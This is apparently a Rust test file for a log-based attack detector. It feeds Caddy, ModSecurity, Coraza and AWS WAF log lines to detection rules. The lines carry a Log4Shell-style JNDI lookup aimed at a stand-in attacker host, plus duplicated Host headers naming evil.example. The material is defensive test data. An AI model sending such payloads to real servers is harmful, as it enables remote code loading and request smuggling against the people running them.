//! A header that was sent twice, from the line of a log to the evidence of a detection: neither of the two hides.

use observe::logs::{Dates, Format, Parser};
use observe::{Line, Trusted};
use schemas::event::HEADERS_MAX;
use schemas::{Event, Record};
use uuid::Uuid;

const LOOKUP: &str = "${jndi:ldap://attacker.example/a}";

/// The event that a line of a log becomes, as it comes out of the topic.
fn event(format: &str, line: &str) -> Event {
    let format: Format = format.parse().unwrap();
    let mut parser = Parser::new(format, Trusted::default(), Dates::default());
    let Ok(Line::Event(observation)) = parser.line(line.as_bytes(), 1_000) else {
        panic!("no event: {line}")
    };
    let mut bytes = Vec::new();
    observation
        .into_event(Uuid::from_u128(1), "test".to_owned(), None, 1_000)
        .encode(&mut bytes)
        .unwrap();
    Event::decode(&bytes).unwrap().to_event()
}

/// The evidence in what a line says is from this place and rule.
#[track_caller]
fn check(format: &str, line: &str, place: &str, rule: &str) {
    let event = event(format, line);
    let found = super::rules().request(&event.view());
    let named = |piece: &schemas::Evidence| piece.place == place && piece.rule.starts_with(rule);
    assert!(found.evidence.iter().any(named), "{line}: {found:?}");
}

fn caddy(headers: &str) -> String {
    format!(
        r#"{{"ts":1.0,"logger":"http.log.access","request":{{"remote_ip":"81.2.69.142","method":"GET","host":"shop.example","uri":"/","headers":{{{headers}}}}},"status":200}}"#
    )
}

fn modsecurity(headers: &str) -> String {
    format!(
        r#"{{"transaction":{{"client_ip":"81.2.69.142","unix_timestamp":1000000000,"request":{{"method":"GET","uri":"/","headers":{{{headers}}}}}}}}}"#
    )
}

fn aws_waf(headers: &[(&str, &str)]) -> String {
    let headers: Vec<String> = headers
        .iter()
        .map(|(name, value)| format!(r#"{{"name":"{name}","value":"{value}"}}"#))
        .collect();
    format!(
        r#"{{"timestamp":1000,"action":"ALLOW","httpRequest":{{"clientIp":"81.2.69.142","httpMethod":"GET","uri":"/","headers":[{}]}}}}"#,
        headers.join(",")
    )
}

#[test]
fn an_attack_in_one_of_two_agents_or_referers_is_found() {
    let browser = "Mozilla/5.0";
    for (format, line, place) in [
        ("caddy", caddy(&format!(r#""User-Agent":["{LOOKUP}","{browser}"]"#)), "agent"),
        ("caddy", caddy(&format!(r#""User-Agent":["{browser}","{LOOKUP}"]"#)), "agent"),
        ("caddy", caddy(&format!(r#""Referer":["{LOOKUP}","https://shop.example/"]"#)), "referer"),
        (
            "modsecurity",
            modsecurity(&format!(r#""User-Agent":"{LOOKUP}","user-agent":"x""#)),
            "agent",
        ),
        ("coraza", modsecurity(&format!(r#""User-Agent":"{LOOKUP}","User-Agent":"x""#)), "agent"),
        ("aws-waf", aws_waf(&[("User-Agent", LOOKUP), ("user-agent", browser)]), "agent"),
        ("aws-waf", aws_waf(&[("Referer", LOOKUP), ("Referer", "/")]), "referer"),
    ] {
        check(format, &line, place, "jndi.");
    }
}

#[test]
fn two_hosts_in_one_request_are_seen_and_one_host_told_twice_is_not() {
    let hosts = |hosts: &[&str]| {
        let headers: Vec<(&str, &str)> = hosts.iter().map(|host| ("Host", *host)).collect();
        aws_waf(&headers)
    };
    check("aws-waf", &hosts(&["shop.example", "evil.example"]), "request", "host.two");
    let two = modsecurity(r#""Host":"shop.example","host":"evil.example""#);
    check("modsecurity", &two, "request", "host.two");
    let two = modsecurity(r#""Host":"shop.example","Host":"evil.example""#);
    check("modsecurity", &two, "request", "host.two");
    for line in [hosts(&["shop.example"]), hosts(&["shop.example", "shop.example"])] {
        let found = super::rules().request(&event("aws-waf", &line).view());
        assert!(found.evidence.iter().all(|piece| piece.rule != "host.two"), "{line}: {found:?}");
    }
}

#[test]
fn the_second_host_is_read_where_an_event_has_as_many_headers_as_it_carries() {
    let names: Vec<String> = (1..HEADERS_MAX).map(|at| format!("X-{at}")).collect();
    let mut headers: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "1")).collect();
    headers.extend([("Host", "evil.example"), ("Host", "shop.example")]);
    let line = aws_waf(&headers);
    assert_eq!(event("aws-waf", &line).headers.unwrap().len(), HEADERS_MAX);
    check("aws-waf", &line, "request", "host.two");
}
